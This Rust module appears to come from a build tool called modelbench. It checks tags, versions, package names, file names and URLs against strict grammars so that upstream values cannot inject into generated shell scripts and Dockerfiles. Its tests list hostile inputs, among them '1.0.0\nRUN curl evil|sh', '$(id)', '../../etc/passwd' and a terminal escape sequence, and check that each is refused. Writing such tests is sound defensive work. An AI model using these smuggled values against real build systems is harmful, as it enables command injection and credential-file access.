//! The grammar of every value an upstream (or a lock edited by hand) hands to modelbench.
//!
//! The spec is the user's and trusted; upstreams, mirrors and lock edits are not. A tag,
//! a version, a file name or a URL that reaches the lock ends up in shell scripts,
//! Dockerfiles, TOML and JSON the build runs, so each is checked here against its
//! ecosystem's grammar (narrowed to a conservative character set where the ecosystem's
//! own is wider than anything published uses) before it is locked and again when a lock
//! is read: [`check_artifact`] is called by the resolver driver on every resolved entry
//! (naming the upstream) and by [`super::Lock::parse`] on every entry of a lock file.
//!
//! Each newtype here can only be constructed valid (`parse` is the one constructor).
//! Messages show the offending value through [`escape_for_terminal`], so an escape
//! sequence an upstream planted is printed as text, never interpreted.

use std::fmt;

use super::npm::NO_PLATFORM;
use super::{ALL_PLATFORMS, Artifact, Kind, Package, Pin};

/// Longest value shown in a message; the rest is cut, so a megabyte tag cannot flood a
/// terminal or a CI log.
const SHOWN_CHARS: usize = 200;

/// A value that does not match its grammar: which field, the value (escaped when shown)
/// and what was expected.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{field} `{}` is not {expected}", escape_for_terminal(.value))]
pub struct ValueError {
    pub field: String,
    pub value: String,
    pub expected: &'static str,
}

fn refuse(field: &str, value: &str, expected: &'static str) -> ValueError {
    ValueError {
        field: field.to_string(),
        value: value.to_string(),
        expected,
    }
}

/// `text` fit for a terminal: control characters (C0, DEL, C1 — ESC starts every
/// terminal escape sequence), line and paragraph separators and bidirectional overrides
/// are shown as `\u{…}`/`\n` escapes, and anything past [`SHOWN_CHARS`] is cut.
pub fn escape_for_terminal(text: &str) -> String {
    let mut out = String::with_capacity(text.len().min(SHOWN_CHARS * 2));
    for (i, c) in text.chars().enumerate() {
        if i == SHOWN_CHARS {
            out.push('…');
            break;
        }
        let invisible = matches!(c,
            '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}');
        if c.is_control() || invisible {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// An error message fit for a terminal: like [`escape_for_terminal`] but keeping line
/// breaks and tabs (messages span lines) and never cut. Upstream text inside a message
/// (a name in a "not found", a version in a conflict) cannot start an escape sequence.
pub fn escape_message(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        let invisible = matches!(c,
            '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}');
        if (c.is_control() && c != '\n' && c != '\t') || invisible {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// Defines a string newtype whose only constructor checks `$valid`.
macro_rules! checked_string {
    ($(#[$doc:meta])* $name:ident, $expected:literal, $valid:expr) => {
        $(#[$doc])*
        #[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
        pub struct $name(String);

        impl $name {
            pub const EXPECTED: &'static str = $expected;

            /// The value, if it matches the grammar; `field` names it in the error.
            pub fn parse(field: &str, text: &str) -> Result<$name, ValueError> {
                let valid: fn(&str) -> bool = $valid;
                if valid(text) {
                    Ok($name(text.to_string()))
                } else {
                    Err(refuse(field, text, $expected))
                }
            }

            pub fn as_str(&self) -> &str {
                &self.0
            }
        }

        impl fmt::Display for $name {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str(&self.0)
            }
        }

        impl AsRef<str> for $name {
            fn as_ref(&self) -> &str {
                &self.0
            }
        }
    };
}

fn chars_in(text: &str, allowed: impl Fn(u8) -> bool) -> bool {
    text.bytes().all(allowed)
}

fn bounded(text: &str, max: usize) -> bool {
    !text.is_empty() && text.len() <= max
}

checked_string!(
    /// A GitHub release tag: `git check-ref-format` allows far more (`;`, `$`, quotes),
    /// so this is the conservative subset real tags use: ASCII letters, digits and
    /// `. _ + - @ /`, starting with a letter or digit, no `..`, at most 128 bytes.
    ReleaseTag,
    "a release tag (letters, digits and `._+-@/`, starting with a letter or digit)",
    |t| bounded(t, 128)
        && t.as_bytes()[0].is_ascii_alphanumeric()
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._+-@/".contains(&b))
        && !t.contains("..")
        && !t.ends_with('/')
);

checked_string!(
    /// A semantic version as npm publishes it (strict semver 2.0, no `v`, no spaces).
    NpmVersion,
    "a semantic version (`1.2.3`, `1.2.3-rc.1+build`)",
    |t| bounded(t, 256)
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b".-+".contains(&b))
        && crate::versions::node_semver::Version::parse(t, false).is_some()
);

checked_string!(
    /// A Node.js release: `v` and a semantic version (`v22.11.0`).
    NodeVersion,
    "a Node.js version (`v22.11.0`)",
    |t| t.strip_prefix('v').is_some_and(|v| {
        bounded(v, 64)
            && chars_in(v, |b| b.is_ascii_alphanumeric() || b".-+".contains(&b))
            && crate::versions::node_semver::Version::parse(v, false).is_some()
    })
);

checked_string!(
    /// A Debian version, `[epoch:]upstream[-revision]` (Debian Policy 5.6.12).
    DebianVersion,
    "a Debian version (`[epoch:]upstream[-revision]`)",
    |t| bounded(t, 256)
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b".+~:-".contains(&b))
        && crate::versions::debian::Version::parse(t).is_ok()
);

checked_string!(
    /// A conda package version: letters, digits, `. _ + !` (the epoch mark), starting
    /// with a letter or digit.
    CondaVersion,
    "a conda version (letters, digits and `._+!`)",
    |t| bounded(t, 128)
        && t.as_bytes()[0].is_ascii_alphanumeric()
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._+!".contains(&b))
);

checked_string!(
    /// A conda build string (`hd590300_0`, `pyhd8ed1ab_0`).
    CondaBuild,
    "a conda build string (letters, digits and `._+`)",
    |t| bounded(t, 128) && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._+".contains(&b))
);

checked_string!(
    /// A conda package name: lowercase letters, digits and `. _ -`, starting with a
    /// letter, digit or `_` (`__glibc` is a virtual package).
    CondaName,
    "a conda package name (lowercase letters, digits and `._-`)",
    |t| bounded(t, 128)
        && (t.as_bytes()[0].is_ascii_alphanumeric() || t.starts_with('_'))
        && chars_in(t, |b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._-".contains(&b))
);

checked_string!(
    /// A Debian package name (Debian Policy 5.6.1): lowercase letters, digits and
    /// `+ - .`, at least two characters, starting with a letter or digit.
    DebianName,
    "a Debian package name (lowercase letters, digits and `+-.`, two or more)",
    |t| t.len() >= 2
        && t.len() <= 128
        && (t.as_bytes()[0].is_ascii_lowercase() || t.as_bytes()[0].is_ascii_digit())
        && chars_in(t, |b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"+-.".contains(&b))
);

/// One part of an npm name (validate-npm-package-name): URL-safe characters, no leading
/// `.` or `_`. Uppercase is allowed for the old packages that have it (`JSONStream`).
fn npm_name_part(part: &str) -> bool {
    bounded(part, 214)
        && !part.starts_with(['.', '_'])
        && chars_in(part, |b| b.is_ascii_alphanumeric() || b"-._~".contains(&b))
}

checked_string!(
    /// An npm package name, `name` or `@scope/name`, at most 214 bytes.
    NpmName,
    "an npm package name (`name` or `@scope/name`)",
    |t| t.len() <= 214
        && t != "node_modules"
        && match t.strip_prefix('@') {
            Some(scoped) => scoped
                .split_once('/')
                .is_some_and(|(scope, name)| npm_name_part(scope) && npm_name_part(name)),
            None => npm_name_part(t),
        }
);

checked_string!(
    /// The name of a command an npm package links onto `PATH` (a key of `bin`): one
    /// path component of letters, digits and `. _ - @ +`, not starting with `.` or `-`.
    NpmBinName,
    "an npm bin name (letters, digits and `._-@+`, not starting with `.` or `-`)",
    |t| bounded(t, 214)
        && !t.starts_with(['.', '-'])
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._-@+".contains(&b))
);

checked_string!(
    /// Where an npm package sits in the installed tree: `node_modules/<name>` repeated
    /// (`node_modules/a/node_modules/@s/b`).
    NpmTreePath,
    "an npm tree location (`node_modules/<name>`, nested)",
    |t| {
        let mut rest = t;
        let mut any = false;
        while let Some(after) = rest.strip_prefix("node_modules/") {
            let (name, next) = if after.starts_with('@') {
                let end = after
                    .match_indices('/')
                    .nth(1)
                    .map_or(after.len(), |(i, _)| i);
                (&after[..end], &after[end..])
            } else {
                let end = after.find('/').unwrap_or(after.len());
                (&after[..end], &after[end..])
            };
            if NpmName::parse("", name).is_err() {
                return false;
            }
            any = true;
            match next.strip_prefix('/') {
                Some(more) => rest = more,
                None => return next.is_empty(),
            }
        }
        any && rest.is_empty()
    }
);

checked_string!(
    /// A file name: one path component (no `/`, not `.` or `..`) of letters, digits and
    /// `. _ + - ~ @ = , %`, not starting with `-`, at most 255 bytes. Upstream file names
    /// become paths under `--out` and in the image, and arguments of the fetch script.
    FileName,
    "a file name (one path component of letters, digits and `._+-~@=,%`)",
    |t| bounded(t, 255)
        && t != "."
        && t != ".."
        && !t.starts_with('-')
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._+-~@=,%".contains(&b))
);

checked_string!(
    /// A short identifier from an upstream's metadata (npm `os`/`cpu`/`libc`, conda
    /// `track_features`): letters, digits and `. _ - !`.
    Token,
    "a token (letters, digits and `._-!`)",
    |t| bounded(t, 128) && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._-!".contains(&b))
);

checked_string!(
    /// A dependency constraint from package metadata (an npm range, a conda match
    /// spec): one line of printable ASCII without the characters a shell or a string
    /// literal would act on (`` ` $ \ ' " ``). These reach files only through
    /// serializers; the narrow set keeps a review of the lock readable.
    Constraint,
    "a dependency constraint (one line of printable ASCII without `` ` $ \\ ' \" ``)",
    |t| t.len() <= 1024 && chars_in(t, |b| (0x20..0x7f).contains(&b) && !b"`$\\'\"".contains(&b))
);

checked_string!(
    /// A git commit SHA as a ref advertisement and `actions/…@<sha>` spell it: 40
    /// lowercase hex digits (a tag or branch name can move; a full SHA cannot).
    GitCommit,
    "a full git commit SHA (40 lowercase hex digits)",
    |t| t.len() == 40 && chars_in(t, |b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
);

checked_string!(
    /// Free text (an entry's name, its requested constraint): one line without control
    /// characters.
    OneLine,
    "one line of text without control characters",
    |t| t.len() <= 1024 && !t.chars().any(|c| c.is_control())
);

checked_string!(
    /// A date as upstreams give one: `YYYY-MM-DD` or an RFC 3339 time.
    Published,
    "a date (`YYYY-MM-DD` or RFC 3339)",
    |t| bounded(t, 40)
        && chars_in(t, |b| b.is_ascii_digit() || b"-:.TZ+ ".contains(&b))
        && super::epoch_of_date(t).is_some()
);

/// A `http(s)` URL fit to be locked: it parses, has a host, no userinfo (credentials
/// come from the sources file at resolve time, never from the lock), no fragment, and
/// only RFC 3986 characters minus `$` and `'`. Whether plain `http` may be fetched is the
/// client's decision (sources file, signed apt archives); this only refuses every other
/// scheme (`file:`, `ftp:`, `data:`, …).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct HttpUrl(String);

impl HttpUrl {
    pub const EXPECTED: &'static str = "an http(s) URL with a host, without credentials";

    pub fn parse(field: &str, text: &str) -> Result<HttpUrl, ValueError> {
        let rfc3986 = |b: u8| b.is_ascii_alphanumeric() || b"-._~:/?#[]@!&()*+,;=%".contains(&b);
        // Spelled as written: the parser would read `https:///x` as host `x`.
        let authority = text
            .strip_prefix("https://")
            .or_else(|| text.strip_prefix("http://"));
        let ok = bounded(text, 4096)
            && chars_in(text, rfc3986)
            && authority.is_some_and(|rest| !rest.is_empty() && !rest.starts_with('/'))
            && url::Url::parse(text).is_ok_and(|url| {
                matches!(url.scheme(), "https" | "http")
                    && url.host_str().is_some_and(|h| !h.is_empty())
                    && url.username().is_empty()
                    && url.password().is_none()
                    && url.fragment().is_none()
            });
        if ok {
            Ok(HttpUrl(text.to_string()))
        } else {
            Err(refuse(field, text, HttpUrl::EXPECTED))
        }
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// `host[:port]` of the URL.
    pub fn host(&self) -> String {
        let url = url::Url::parse(&self.0).expect("checked by parse");
        let host = url.host_str().unwrap_or_default();
        match url.port() {
            Some(port) => format!("{host}:{port}"),
            None => host.to_string(),
        }
    }
}

impl fmt::Display for HttpUrl {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// `url` without its userinfo (`https://user:pass@host/x` → `https://host/x`); other
/// text unchanged. Credentials from a sources file apply at resolve time only: nothing
/// written to a lock (and from there to `artifacts.tsv` in the image) may carry them.
pub fn strip_userinfo(text: &str) -> String {
    match url::Url::parse(text) {
        Ok(mut url) if !url.username().is_empty() || url.password().is_some() => {
            let _ = url.set_username("");
            let _ = url.set_password(None);
            url.to_string()
        }
        _ => text.to_string(),
    }
}

/// Platform keys of `[artifact.platform."…"]` and closure members' `platform`.
const PIN_PLATFORMS: [&str; 3] = ["linux/amd64", "linux/arm64", ALL_PLATFORMS];
/// conda subdirs the locked platforms can install.
const CONDA_SUBDIRS: [&str; 3] = ["linux-64", "linux-aarch64", "noarch"];
/// apt architectures the locked platforms install.
const APT_ARCHES: [&str; 3] = ["amd64", "arm64", "all"];

fn one_of(
    field: &str,
    value: &str,
    set: &[&str],
    expected: &'static str,
) -> Result<(), ValueError> {
    if set.contains(&value) {
        Ok(())
    } else {
        Err(refuse(field, value, expected))
    }
}

/// `sha256:` and 64 lowercase hex digits (an OCI digest, an apt closure's version).
fn sha256_digest(field: &str, text: &str) -> Result<(), ValueError> {
    let ok = text.strip_prefix("sha256:").is_some_and(|hex| {
        hex.len() == 64 && chars_in(hex, |b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    });
    if ok {
        Ok(())
    } else {
        Err(refuse(
            field,
            text,
            "a sha256 digest (`sha256:<64 hex digits>`)",
        ))
    }
}

/// A conda tool's version: one conda version, or `v (platform), …` when the platforms
/// resolved different ones.
fn conda_tool_version(text: &str) -> Result<(), ValueError> {
    let ok = text.split(", ").all(|part| match part.split_once(" (") {
        Some((version, platform)) => {
            CondaVersion::parse("", version).is_ok()
                && platform
                    .strip_suffix(')')
                    .is_some_and(|p| PIN_PLATFORMS[..2].contains(&p))
        }
        None => CondaVersion::parse("", part).is_ok(),
    });
    if ok {
        Ok(())
    } else {
        Err(refuse(
            "version",
            text,
            "a conda version, or `<version> (<platform>)` entries separated by `, `",
        ))
    }
}

/// Check every value of a lock entry against its grammar (what [`super::Lock::parse`]
/// and the resolver driver both apply). The first offending value is reported, with the
/// field it is in (`package libc6 file`).
pub fn check_artifact(artifact: &Artifact) -> Result<(), ValueError> {
    // `kind` itself is typed: the lock's reader refuses any other name.
    let kind = artifact.kind;
    OneLine::parse("name", &artifact.name)?;
    OneLine::parse("requested", &artifact.requested)?;
    OneLine::parse("request-hash", &artifact.request_hash)?;
    super::provenance::check(artifact)?;
    if let Some(checksum) = &artifact.checksum {
        OneLine::parse("checksum", checksum)?;
    }
    let version = artifact.version.as_str();
    match kind {
        Kind::GithubRelease => {
            ReleaseTag::parse("version", version)?;
        }
        Kind::Nodejs => {
            NodeVersion::parse("version", version)?;
        }
        Kind::Npm => {
            NpmVersion::parse("version", version)?;
        }
        Kind::Conda => conda_tool_version(version)?,
        Kind::Apt => sha256_digest("version", version)?,
        Kind::Url => {
            let ok = version.len() == 12 && chars_in(version, |b| b.is_ascii_hexdigit());
            if !ok {
                return Err(refuse(
                    "version",
                    version,
                    "12 hex digits of the file's sha256",
                ));
            }
        }
        Kind::Git => {
            ReleaseTag::parse("version", version)?;
            let repository = artifact.repository.as_deref().unwrap_or_default();
            let url = HttpUrl::parse("repository", repository)?;
            if !url.as_str().starts_with("https://") {
                return Err(refuse("repository", repository, "an https URL"));
            }
            GitCommit::parse("commit", artifact.commit.as_deref().unwrap_or_default())?;
            // Nothing of a git pin is downloaded into the image.
            if !artifact.platform.is_empty() {
                return Err(refuse("platform", "(present)", "absent for kind git"));
            }
        }
        Kind::Oci => {
            if !crate::image_ref::is_valid_tag(version)
                && !crate::image_ref::is_valid_digest_syntax(version)
            {
                return Err(refuse("version", version, "an image tag or digest"));
            }
        }
    }
    if let Some(digest) = &artifact.digest {
        sha256_digest("digest", digest)?;
    }
    // Only git entries name a repository and a commit; anywhere else they are an edit.
    if kind != Kind::Git && (artifact.repository.is_some() || artifact.commit.is_some()) {
        return Err(refuse(
            "repository/commit",
            "(present)",
            "absent for this kind",
        ));
    }
    for image in &artifact.images {
        let ok = crate::image_ref::ImageRef::parse(image).is_ok_and(|r| r.digest.is_some());
        if !ok {
            return Err(refuse(
                "images",
                image,
                "an image reference by digest (`host/repo@sha256:…`)",
            ));
        }
    }
    if let Some(published) = &artifact.published {
        Published::parse("published", published)?;
    }
    if let Some(url) = &artifact.release_url {
        HttpUrl::parse("release-url", url)?;
    }
    for (platform, pin) in &artifact.platform {
        one_of(
            "platform",
            platform,
            &PIN_PLATFORMS,
            "a platform key (`linux/amd64`, `linux/arm64` or `all`)",
        )?;
        check_pin(platform, pin)?;
    }
    for package in &artifact.packages {
        check_package(kind, package)?;
    }
    for pin in &artifact.pins {
        OneLine::parse("pins", pin)?;
    }
    for archive in &artifact.archives {
        for platform in &archive.platforms {
            one_of(
                "archive platforms",
                platform,
                &PIN_PLATFORMS,
                "a platform key (`linux/amd64`, `linux/arm64` or `all`)",
            )?;
        }
        for uri in &archive.uris {
            HttpUrl::parse("archive uris", uri)?;
        }
        for word in archive.suites.iter().chain(&archive.components) {
            OneLine::parse("archive suites", word)?;
        }
        OneLine::parse("archive from", &archive.from)?;
    }
    Ok(())
}

/// A path inside a package: relative, no `..`, letters, digits and `. _ - @ + /`.
fn relative_path(field: &str, path: &str) -> Result<(), ValueError> {
    let inside = bounded(path, 1024)
        && !path.starts_with('/')
        && path.split('/').all(|part| part != "..")
        && chars_in(path, |b| {
            b.is_ascii_alphanumeric() || b"._-@+/".contains(&b)
        });
    if inside {
        Ok(())
    } else {
        Err(refuse(field, path, "a relative path inside the package"))
    }
}

fn check_pin(platform: &str, pin: &Pin) -> Result<(), ValueError> {
    FileName::parse(&format!("platform {platform} file"), &pin.file)?;
    for url in &pin.urls {
        HttpUrl::parse(&format!("platform {platform} url"), url)?;
    }
    Ok(())
}

fn check_package(kind: Kind, package: &Package) -> Result<(), ValueError> {
    // Named by the member as the lock spells it; shown escaped, like every value.
    let member = format!("package `{}`", escape_for_terminal(&package.name));
    let field = |name: &str| format!("{member} {name}");
    let platforms: &[&str] = if kind == Kind::Npm {
        &["linux/amd64", "linux/arm64", ALL_PLATFORMS, NO_PLATFORM]
    } else {
        &PIN_PLATFORMS
    };
    one_of(
        &field("platform"),
        &package.platform,
        platforms,
        "a platform key (`linux/amd64`, `linux/arm64` or `all`)",
    )?;
    FileName::parse(&field("file"), &package.file)?;
    for url in &package.urls {
        HttpUrl::parse(&field("url"), url)?;
    }
    let unexpected = |name: &str, present: bool| -> Result<(), ValueError> {
        if present {
            Err(refuse(&field(name), "(present)", "absent for this kind"))
        } else {
            Ok(())
        }
    };
    match kind {
        Kind::Apt => {
            DebianName::parse(&field("name"), &package.name)?;
            DebianVersion::parse(&field("version"), &package.version)?;
            let arch = package.arch.as_deref().unwrap_or_default();
            one_of(
                &field("arch"),
                arch,
                &APT_ARCHES,
                "an architecture (`amd64`, `arm64` or `all`)",
            )?;
            for name in &package.required_by {
                DebianName::parse(&field("required-by"), name)?;
            }
            unexpected("build", package.build.is_some())?;
            unexpected("subdir", package.subdir.is_some())?;
            unexpected("path", package.path.is_some())?;
            unexpected("npm", package.npm.is_some())?;
            unexpected("conda", package.conda.is_some())?;
        }
        Kind::Conda => {
            CondaName::parse(&field("name"), &package.name)?;
            CondaVersion::parse(&field("version"), &package.version)?;
            CondaBuild::parse(
                &field("build"),
                package.build.as_deref().unwrap_or_default(),
            )?;
            let subdir = package.subdir.as_deref().unwrap_or_default();
            one_of(
                &field("subdir"),
                subdir,
                &CONDA_SUBDIRS,
                "a conda subdir (`linux-64`, `linux-aarch64` or `noarch`)",
            )?;
            if let Some(noarch) = &package.noarch {
                one_of(
                    &field("noarch"),
                    noarch,
                    &["python", "generic"],
                    "`python` or `generic`",
                )?;
            }
            if !package.file.ends_with(".conda") && !package.file.ends_with(".tar.bz2") {
                return Err(refuse(
                    &field("file"),
                    &package.file,
                    "a `.conda` or `.tar.bz2` file name",
                ));
            }
            for name in &package.required_by {
                CondaName::parse(&field("required-by"), name)?;
            }
            if let Some(facts) = &package.conda {
                for spec in facts.depends.iter().chain(&facts.constrains) {
                    Constraint::parse(&field("depends"), spec)?;
                }
                for feature in &facts.track_features {
                    Token::parse(&field("track-features"), feature)?;
                }
                // Free text, written only through serializers: old records wrap lines.
                for text in [&facts.license, &facts.license_family]
                    .into_iter()
                    .flatten()
                {
                    if text.len() > 4096 || text.chars().any(|c| c.is_control() && c != '\n') {
                        return Err(refuse(
                            &field("license"),
                            text,
                            "text without control characters",
                        ));
                    }
                }
                if let Some(path) = &facts.python_site_packages_path {
                    relative_path(&field("python-site-packages-path"), path)?;
                }
                if let Some(md5) = &facts.md5
                    && !(md5.len() == 32 && chars_in(md5, |b| b.is_ascii_hexdigit()))
                {
                    return Err(refuse(&field("md5"), md5, "32 hex digits"));
                }
            }
            unexpected("arch", package.arch.is_some())?;
            unexpected("path", package.path.is_some())?;
            unexpected("npm", package.npm.is_some())?;
        }
        Kind::Npm => {
            NpmName::parse(&field("name"), &package.name)?;
            NpmVersion::parse(&field("version"), &package.version)?;
            if let Some(path) = &package.path {
                NpmTreePath::parse(&field("path"), path)?;
            }
            for name in &package.required_by {
                OneLine::parse(&field("required-by"), name)?;
            }
            if let Some(facts) = &package.npm {
                for (name, range) in facts
                    .dependencies
                    .iter()
                    .chain(&facts.optional_dependencies)
                    .chain(&facts.peer_dependencies)
                {
                    NpmName::parse(&field("dependency"), name)?;
                    Constraint::parse(&field("dependency range"), range)?;
                }
                for name in facts.optional_peers.iter().chain(&facts.bundled) {
                    NpmName::parse(&field("dependency"), name)?;
                }
                for (bin, target) in &facts.bin {
                    NpmBinName::parse(&field("bin"), bin)?;
                    relative_path(&field("bin target"), target)?;
                }
                for token in facts.os.iter().chain(&facts.cpu).chain(&facts.libc) {
                    Token::parse(&field("os/cpu/libc"), token)?;
                }
            }
            unexpected("arch", package.arch.is_some())?;
            unexpected("build", package.build.is_some())?;
            unexpected("conda", package.conda.is_some())?;
        }
        Kind::Oci | Kind::GithubRelease | Kind::Nodejs | Kind::Url | Kind::Git => {
            return Err(refuse(
                "kind",
                kind.as_str(),
                "a closure kind (apt, conda, npm) to have packages",
            ));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Values an attacker would try: each must be refused by every grammar below.
    const HOSTILE: &[&str] = &[
        "0.1.0;touch$IFS/x;#",
        "1.0.0\nRUN curl evil|sh",
        "$(id)",
        "`id`",
        "a'b",
        "a\"b",
        "../../etc/passwd",
        "\u{1b}]0;pwned\u{7}",
        "",
    ];

    #[test]
    fn every_grammar_refuses_shell_and_traversal() {
        for value in HOSTILE {
            assert!(ReleaseTag::parse("v", value).is_err(), "{value:?}");
            assert!(NpmVersion::parse("v", value).is_err(), "{value:?}");
            assert!(DebianVersion::parse("v", value).is_err(), "{value:?}");
            assert!(CondaVersion::parse("v", value).is_err(), "{value:?}");
            assert!(CondaBuild::parse("v", value).is_err(), "{value:?}");
            assert!(NpmName::parse("v", value).is_err(), "{value:?}");
            assert!(NpmBinName::parse("v", value).is_err(), "{value:?}");
            assert!(DebianName::parse("v", value).is_err(), "{value:?}");
            assert!(CondaName::parse("v", value).is_err(), "{value:?}");
            assert!(FileName::parse("v", value).is_err(), "{value:?}");
            assert!(HttpUrl::parse("v", value).is_err(), "{value:?}");
        }
    }

    #[test]
    fn real_values_pass() {
        for tag in [
            "v0.10.8",
            "0.4.18",
            "cli/v1.2.3",
            "pkg@1.0.0",
            "nightly-2026-07-01",
        ] {
            ReleaseTag::parse("tag", tag).unwrap();
        }
        NpmVersion::parse("v", "1.2.3-rc.1+build.5").unwrap();
        NodeVersion::parse("v", "v22.11.0").unwrap();
        DebianVersion::parse("v", "1:2.43.0-1ubuntu7.1").unwrap();
        CondaVersion::parse("v", "1.7.1").unwrap();
        CondaBuild::parse("b", "hd590300_0").unwrap();
        NpmName::parse("n", "@anthropic-ai/claude-code").unwrap();
        NpmName::parse("n", "JSONStream").unwrap();
        NpmBinName::parse("b", "claude").unwrap();
        DebianName::parse("n", "libstdc++6").unwrap();
        CondaName::parse("n", "__glibc").unwrap();
        FileName::parse("f", "git_1%3a2.43.0-1ubuntu7_amd64.deb").unwrap();
        NpmTreePath::parse("p", "node_modules/a/node_modules/@s/b").unwrap();
        HttpUrl::parse("u", "https://registry.npmjs.org/@s/b/-/b-1.0.0.tgz?x=1&y=2").unwrap();
        HttpUrl::parse("u", "http://127.0.0.1:8080/x").unwrap();
        Published::parse("p", "2026-07-23T10:00:00Z").unwrap();
    }

    #[test]
    fn urls_refuse_other_schemes_credentials_and_shell() {
        for url in [
            "file:///etc/passwd",
            "ftp://host/x",
            "https://user:pass@host/x",
            "https://host/x#frag",
            "https://host/$(id)",
            "https://host/a'b",
            "https:///x",
            "data:text/plain,x",
        ] {
            assert!(HttpUrl::parse("u", url).is_err(), "{url}");
        }
        assert_eq!(
            strip_userinfo("https://user:pass@mirror.example/npm/x.tgz"),
            "https://mirror.example/npm/x.tgz"
        );
        assert_eq!(
            strip_userinfo("https://mirror.example/x"),
            "https://mirror.example/x"
        );
    }

    #[test]
    fn file_names_are_one_component() {
        for name in ["..", ".", "a/b", "-rf", "a b", "a;b", "a\nb"] {
            assert!(FileName::parse("f", name).is_err(), "{name:?}");
        }
        for path in [
            "node_modules/../x",
            "node_modules/a/../../x",
            "x",
            "node_modules/",
        ] {
            assert!(NpmTreePath::parse("p", path).is_err(), "{path}");
        }
    }

    #[test]
    fn messages_show_escape_sequences_as_text() {
        let err = ReleaseTag::parse("version", "v1\u{1b}[2J\nRUN x").unwrap_err();
        let text = err.to_string();
        assert!(!text.contains('\u{1b}') && !text.contains('\n'), "{text}");
        assert!(text.contains("v1\\u{1b}[2J\\nRUN x"), "{text}");
        assert_eq!(
            escape_for_terminal(&"x".repeat(500)).chars().count(),
            SHOWN_CHARS + 1
        );
        assert_eq!(escape_for_terminal("a\u{202e}b"), "a\\u{202e}b");
        assert_eq!(escape_message("a\u{1b}[31m\nb\r"), "a\\u{1b}[31m\nb\\r");
    }
}
